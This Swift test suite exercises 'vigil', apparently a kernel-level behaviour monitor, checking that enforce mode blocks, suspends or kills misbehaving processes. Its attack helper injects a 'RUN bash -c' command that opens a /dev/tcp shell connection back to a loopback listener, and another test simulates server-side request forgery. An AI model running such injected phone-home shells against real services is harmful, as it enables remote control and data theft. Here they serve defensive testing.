import Foundation
import Testing
import VigilTestSupport
import VigilCore

/// A service learned by `vigil learn`, running from its own copy of the vigil binary so
/// that its profile is its own.
struct LearnedService {
    let models: String
    let binary: String
    let process: Process
    let port: UInt16
    var id: String { ProfileIdentity.resolve(path: binary, argv: [binary, "demo-service"]).id }

    static func start(learnSeconds: Int = 10) throws -> LearnedService {
        let base = FileManager.default.temporaryDirectory.appendingPathComponent("vigil-e2e-\(UUID().uuidString)").path
        try FileManager.default.createDirectory(atPath: base, withIntermediateDirectories: true, attributes: [.posixPermissions: 0o700])
        let binary = base + "/svc"
        try FileManager.default.copyItem(atPath: try vigilExecutable().path, toPath: binary)
        let models = base + "/models"
        var service: Process?
        var port: UInt16 = 0
        let r = try runVigil(["learn", "--models", models, "--duration", String(learnSeconds), "--only", binary,
                              "--only", "/bin/bash", "--only", "/usr/bin/head",
                              "--bucket", "2", "--window", "2", "--min-observed", "4", "--save-interval", "3"]) {
            (service, port) = try startDemoService(binary, ["--vulnerable"])
            let end = Date().addingTimeInterval(Double(learnSeconds) - 3.5)
            while Date() < end {
                try normalRequest(port)
                Thread.sleep(forTimeInterval: 0.1)
            }
        }
        guard r.status == 0, let service, port != 0 else { throw POSIXError(.EIO) }
        return LearnedService(models: models, binary: binary, process: service, port: port)
    }

    /// A policy that lets the service's profile be acted on while it is still learning.
    func enforceLearningPolicy() throws -> String {
        let path = models + "/../enforce-learning.yaml"
        try "enforce-learning: [\(id)]\n".write(toFile: path, atomically: false, encoding: .utf8)
        return path
    }

    func stop() {
        if process.isRunning { kill(process.processIdentifier, SIGKILL); process.waitUntilExit() }
        try? FileManager.default.removeItem(atPath: (binary as NSString).deletingLastPathComponent)
    }
}

/// Starts `vigil demo-service` from `binary` (a copy of vigil, so that its profile is its
/// own) and returns the process with the port it printed (0 if it printed none).
func startDemoService(_ binary: String, _ args: [String] = []) throws -> (process: Process, port: UInt16) {
    let p = Process()
    p.executableURL = URL(fileURLWithPath: binary)
    p.arguments = ["demo-service"] + args
    let out = Pipe()
    p.standardOutput = out
    try p.run()
    let port = UInt16(String(decoding: out.fileHandleForReading.availableData, as: UTF8.self)
        .trimmingCharacters(in: .whitespacesAndNewlines)) ?? 0
    return (p, port)
}

@discardableResult
func normalRequest(_ port: UInt16) throws -> Int32 {
    try runProgram("/bin/bash", ["-c", "exec 3<>/dev/tcp/127.0.0.1/\(port); echo 'GET hostname' >&3; head -c 100 <&3 >/dev/null"]).status
}

/// The attack: the service runs a shell that phones home to `home`.
func attack(_ port: UInt16, home: UInt16) throws {
    try runProgram("/bin/bash", ["-c", "exec 3<>/dev/tcp/127.0.0.1/\(port); echo \"RUN bash -c 'echo x >/dev/tcp/127.0.0.1/\(home)'\" >&3; timeout 5 head -c 100 <&3 >/dev/null"])
}

func processState(_ pid: Int32) -> Character? {
    guard let stat = try? String(contentsOfFile: "/proc/\(pid)/stat", encoding: .utf8),
          let close = stat.lastIndex(of: ")") else { return nil }
    return stat[stat.index(close, offsetBy: 2)]
}

@Suite(.serialized, .enabled(if: BPFTestGate.shouldRun), .timeLimit(.minutes(3)))
struct EnforceCommandTests {
    @Test func enforceStopsTheShellThatPhonesHomeAndNormalTrafficIsQuiet() throws {
        try BPFTestGate.check()
        let svc = try LearnedService.start()
        defer { svc.stop() }
        let home = try LoopbackListener()
        let findings = svc.models + "/../findings.jsonl"
        // Learned for seconds, the profile is still `learning`, which is held at alert unless
        // the policy opts it in: these tests are about the actions.
        let optIn = try svc.enforceLearningPolicy()
        let metrics = "127.0.0.1:\(try freeLoopbackPort())"
        var status = ""
        let r = try runVigil(["enforce", "--models", svc.models, "--workload", "exe:" + svc.binary, "--policy", optIn, "--duration", "10",
                              "--output", "file:" + findings, "--metrics", metrics]) {
            for _ in 0..<3 { try normalRequest(svc.port) }
            Thread.sleep(forTimeInterval: 1.5)
            let quiet = (try? String(contentsOfFile: findings, encoding: .utf8)) ?? ""
            #expect(!quiet.contains("\"pid\":\(svc.process.processIdentifier),"), "normal traffic after learning produces no finding")
            // What this enforcer counts, as its operator reads it.
            status = try runVigil(["status", "--metrics", metrics, "--rate-seconds", "0.5"]).out
            try attack(svc.port, home: home.port)
        }
        #expect(r.status == 0, "stderr: \(r.err)")
        #expect(r.err.contains("enforce: metrics on http://\(metrics)/metrics"), "stderr: \(r.err)")
        #expect(status.contains("at \(metrics): mode enforce"), "vigil status reads the enforcer: \(status)")
        #expect(status.contains("kernel records") && status.contains("/s submitted"), "with the kernel's records per second: \(status)")
        #expect(home.accepted == 0, "the connection never arrives")
        let lines = jsonLines((try? String(contentsOfFile: findings, encoding: .utf8)) ?? "")
        let finding = try #require(lines.first { $0["class_uid"] as? Int == 2004 && dig($0, "finding_info.title") != nil
            && ((dig($0, "evidences") as? [[String: Any]])?.contains { dig($0, "process.pid") as? Int == Int(svc.process.processIdentifier) } ?? false) },
            "a Detection Finding names the service's pid")
        #expect((finding["risk_score"] as? Int ?? 0) > 0)
        #expect(!((dig(finding, "finding_info.types") as? [String]) ?? []).isEmpty, "it says which behaviour deviated")
        #expect(dig(finding, "disposition") != nil || dig(finding, "action") != nil, "it says what was done")
    }

    @Test func aDryRunReportsWhatEnforceWouldDoAndNeverActs() throws {
        try BPFTestGate.check()
        let svc = try LearnedService.start(learnSeconds: 8)
        defer { svc.stop() }
        let home = try LoopbackListener()
        // `enforce --dry-run` is monitor with enforce's scope rules.
        let r = try runVigil(["enforce", "--dry-run", "--models", svc.models, "--workload", "exe:" + svc.binary, "--policy", try svc.enforceLearningPolicy(), "--duration", "7"]) {
            try attack(svc.port, home: home.port)
        }
        #expect(r.status == 0, "stderr: \(r.err)")
        #expect(home.accepted >= 1, "a dry run never acts: the shell's connection arrives")
        #expect(svc.process.isRunning)
        let findings = jsonLines(r.out).filter { $0["class_uid"] as? Int == 2004 }
        #expect(!findings.isEmpty)
        #expect(findings.allSatisfy { ($0["action"] as? String)?.lowercased() != "denied" })
        #expect(r.out.contains("would have acted"), "the finding says what enforce would have done")
    }

    @Test func suspendCappedByPolicyThenResume() throws {
        try BPFTestGate.check()
        let svc = try LearnedService.start(learnSeconds: 8)
        defer { svc.stop() }
        let policy = svc.models + "/../policy.yaml"
        try "caps:\n  \(svc.id): suspend\nenforce-learning: [\(svc.id)]\n".write(toFile: policy, atomically: false, encoding: .utf8)
        // The service itself is made to reach out (a server-side request forgery): three
        // destinations and a listener it never had, 85 points, past suspend (75). (Its own
        // sockets are not the network: no self-pipe counts, docs/policy.md.)
        let homes = try (0..<3).map { _ in try LoopbackListener() }
        let listenPort = try stablePorts(1)
        let requests = homes.map { "CONNECT \($0.port)" } + ["LISTEN \(listenPort)"]
        var stateWhileEnforced: Character?
        let r = try runVigil(["enforce", "--models", svc.models, "--workload", "exe:" + svc.binary, "--policy", policy, "--duration", "8"]) {
            // A stopped service never answers: each request gives up after two seconds.
            let client = Process()
            client.executableURL = URL(fileURLWithPath: "/bin/bash")
            client.arguments = ["-c", requests.map {
                "timeout 2 bash -c 'exec 3<>/dev/tcp/127.0.0.1/\(svc.port); echo \"\($0)\" >&3; head -c 100 <&3 >/dev/null'"
            }.joined(separator: "; ")]
            try client.run()
            let end = Date().addingTimeInterval(5)
            while Date() < end, stateWhileEnforced != "T" {
                Thread.sleep(forTimeInterval: 0.1)
                stateWhileEnforced = processState(svc.process.processIdentifier)
            }
        }
        #expect(r.status == 0, "stderr: \(r.err)")
        #expect(stateWhileEnforced == "T", "capped at suspend: the service is stopped, not killed; stdout: \(r.out.suffix(3000))")
        #expect(svc.process.isRunning)
        // The agent released it on exit; stop it again and resume it by hand.
        kill(svc.process.processIdentifier, SIGSTOP)
        Thread.sleep(forTimeInterval: 0.2)
        #expect(processState(svc.process.processIdentifier) == "T")
        let resumed = try runVigil(["resume", String(svc.process.processIdentifier)])
        #expect(resumed.status == 0)
        Thread.sleep(forTimeInterval: 0.2)
        #expect(processState(svc.process.processIdentifier) != "T")
    }

    @Test func vigilModeMonitorStopsARunningEnforcerFromActing() throws {
        try BPFTestGate.check()
        let svc = try LearnedService.start(learnSeconds: 8)
        defer { svc.stop() }
        let home = try LoopbackListener()
        let control = svc.models + "/../control.sock"
        var switched: (out: String, err: String, status: Int32)?
        let r = try runVigil(["enforce", "--models", svc.models, "--workload", "exe:" + svc.binary, "--policy", try svc.enforceLearningPolicy(),
                              "--control-socket", control, "--duration", "8"]) {
            _ = waitFor(5) { FileManager.default.fileExists(atPath: control) }
            switched = try runVigil(["mode", "monitor", "--control-socket", control])
            try attack(svc.port, home: home.port)
        }
        #expect(r.status == 0, "stderr: \(r.err)")
        #expect(switched?.status == 0, "vigil mode: \(switched?.err ?? "")")
        #expect(switched?.out.contains("exe:\(svc.binary) now monitor") == true, "\(switched?.out ?? "")")
        #expect(home.accepted >= 1, "monitor now: the attack's shell ran and phoned home")
        #expect(svc.process.isRunning)
        #expect(r.out.contains("workload exe:\(svc.binary): now monitor (operator: vigil mode monitor)"), "the stream says so")
        #expect(!FileManager.default.fileExists(atPath: control), "the socket goes with the agent")
        let unreachable = try runVigil(["mode", "enforce", "--control-socket", control])
        #expect(unreachable.status == 1 && unreachable.err.contains("no agent is running there"), "\(unreachable.err)")
    }

    @Test func aBrokenPolicyIsRefusedWithLineAndColumn() throws {
        let dir = FileManager.default.temporaryDirectory.appendingPathComponent("vigil-pol-\(UUID().uuidString)").path
        try FileManager.default.createDirectory(atPath: dir + "/models", withIntermediateDirectories: true, attributes: [.posixPermissions: 0o700])
        defer { try? FileManager.default.removeItem(atPath: dir) }
        try "bands:\n  alert: 20\n  kill: ten\n".write(toFile: dir + "/p.yaml", atomically: false, encoding: .utf8)
        let r = try runVigil(["enforce", "--models", dir + "/models", "--all-processes", "--policy", dir + "/p.yaml", "--duration", "1"])
        #expect(r.status == 2)
        #expect(r.err.contains("p.yaml:3:"), "stderr: \(r.err)")
    }

    @Test func aProcessThatSignalsTheAgentIsKilledInEnforceMode() throws {
        try BPFTestGate.check()
        let dir = FileManager.default.temporaryDirectory.appendingPathComponent("vigil-tamper-\(UUID().uuidString)").path
        try FileManager.default.createDirectory(atPath: dir + "/models", withIntermediateDirectories: true, attributes: [.posixPermissions: 0o700])
        defer { try? FileManager.default.removeItem(atPath: dir) }
        // No baselines: every program is unknown; let unknown programs climb the whole ladder.
        try "unknown:\n  cap: kill\n".write(toFile: dir + "/policy.yaml", atomically: false, encoding: .utf8)
        var tamperer: Process?
        let r = try runVigil(["enforce", "--models", dir + "/models", "--workload", "exe:/usr/bin/bash", "--policy", dir + "/policy.yaml", "--duration", "6",
                              "--output", "file:" + dir + "/findings.jsonl"]) {
            // Find the agent, signal it (SIGURG is harmless), then linger.
            let agent = try #require(Self.pid(ofCommandContaining: dir + "/models"))
            let p = Process()
            p.executableURL = URL(fileURLWithPath: "/bin/bash")
            p.arguments = ["-c", "kill -URG \(agent); sleep 10"]
            try p.run()
            tamperer = p
            p.waitUntilExit()
        }
        #expect(r.status == 0, "stderr: \(r.err)")
        let p = try #require(tamperer)
        #expect(p.terminationReason == .uncaughtSignal && p.terminationStatus == SIGKILL, "the tamperer was killed")
        let findings = (try? String(contentsOfFile: dir + "/findings.jsonl", encoding: .utf8)) ?? ""
        #expect(findings.contains("tamper"), "a tamper finding was reported")
    }

    @Test func aMalformedMetricsAddressIsRefusedBeforeAnythingLoads() throws {
        let r = try runVigil(["enforce", "--models", "/nonexistent", "--workload", "exe:/bin/true", "--metrics", "127.0.0.1"])
        #expect(r.status == 2, "a usage error: \(r.err)")
        #expect(r.err.contains("--metrics") && r.err.contains("no port") && r.err.contains("'127.0.0.1'"), "it says what is wrong: \(r.err)")
    }

    @Test func enforceWithoutAWorkloadRefusesWithExitCode2() throws {
        let dir = try makeTempDirectory("vigil-noscope")
        defer { try? FileManager.default.removeItem(atPath: dir) }
        let r = try runVigil(["enforce", "--models", dir, "--duration", "1"])
        #expect(r.status == 2)
        #expect(r.err.contains("--workload KIND:VALUE") && r.err.contains("--all-processes"), "stderr: \(r.err)")
        let dry = try runVigil(["enforce", "--dry-run", "--models", dir, "--duration", "1"])
        #expect(dry.status == 2, "a dry run needs the same scope as the run it rehearses: \(dry.err)")
        let bad = try runVigil(["enforce", "--models", dir, "--workload", "pid:12"])
        #expect(bad.status == 2)
        #expect(bad.err.contains("unknown workload kind 'pid'"), "stderr: \(bad.err)")
    }

    /// The pid of a running process whose command line contains `text`.
    static func pid(ofCommandContaining text: String) -> Int32? {
        guard let names = try? FileManager.default.contentsOfDirectory(atPath: "/proc") else { return nil }
        for name in names {
            guard let pid = Int32(name), let cmd = try? Data(contentsOf: URL(fileURLWithPath: "/proc/\(pid)/cmdline")) else { continue }
            if String(decoding: cmd, as: UTF8.self).replacingOccurrences(of: "\0", with: " ").contains(text) { return pid }
        }
        return nil
    }
}
